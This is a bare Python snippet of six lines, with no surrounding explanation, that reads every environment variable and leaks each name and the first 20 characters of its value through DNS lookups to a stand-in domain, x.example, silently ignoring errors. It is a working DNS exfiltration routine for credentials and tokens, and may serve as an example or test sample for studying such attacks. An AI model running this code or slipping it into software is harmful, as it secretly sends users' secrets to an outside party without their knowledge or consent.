import os, socket
for k, v in os.environ.items():
    try:
        socket.gethostbyname(f"{k}.{v[:20]}.x.example")
    except Exception:
        pass